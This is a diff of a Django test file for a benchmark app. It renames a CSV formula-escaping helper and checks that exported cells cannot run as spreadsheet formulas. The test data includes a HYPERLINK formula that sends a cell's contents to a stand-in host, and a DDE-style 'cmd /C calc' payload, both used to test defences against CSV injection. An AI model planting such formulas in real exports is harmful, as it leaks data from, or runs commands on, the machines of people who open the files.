@@ -14,7 +14,7 @@ from django.test import Client
 from django.utils import timezone
 
 from benchapp.exports.export_run import FORMATS, Export
-from benchapp.exports.spreadsheet import FORMULA, unrun
+from benchapp.exports.spreadsheet import FORMULA, escape_formula
 from benchapp.models import Trial
 from benchapp.review.comment_places import CommentPlace
 from benchapp.review.remarks import write_comment
@@ -28,17 +28,17 @@ ATTACK = '=HYPERLINK("https://elsewhere.example/?"&A1)'
 
 @pytest.mark.parametrize("start", FORMULA)
 def test_a_text_that_begins_like_a_formula_is_not_run(start: str) -> None:
-    assert unrun(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
+    assert escape_formula(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
 
 
 @pytest.mark.parametrize("text", ["-3.2", "-", "+7", "-1e-05", "0.5", "", "no-skill", "a=b", "'quoted'"])
 def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
-    assert unrun(text) == text
+    assert escape_formula(text) == text
 
 
 @pytest.mark.parametrize("text", ["-3.2+1", "+1;=x", "-２", "-1\n=x"])
 def test_what_only_begins_like_a_number_is_no_number(text: str) -> None:
-    assert unrun(text) == f"'{text}"
+    assert escape_formula(text) == f"'{text}"
 
 
 @pytest.mark.django_db
@@ -57,7 +57,7 @@ def test_no_csv_of_the_site_runs_a_condition(client: Client) -> None:
         text = b"".join(response.streaming_content).decode() if response.streaming else response.text  # type: ignore[attr-defined]
         seen += text
         for row in csv.reader(StringIO(text)):
-            assert not [cell for cell in row if unrun(cell) != cell], url
+            assert not [cell for cell in row if escape_formula(cell) != cell], url
     assert f"'{ATTACK[:5]}" in seen
 
 
@@ -67,7 +67,7 @@ def test_the_command_neither() -> None:
     call_command("published", csv=True, stdout=out)
     rows = list(csv.reader(StringIO(out.getvalue())))
     assert len(rows) > 100
-    assert not [cell for row in rows for cell in row if unrun(cell) != cell]
+    assert not [cell for row in rows for cell in row if escape_formula(cell) != cell]
 
 
 def test_every_csv_writer_uses_the_one_function() -> None:
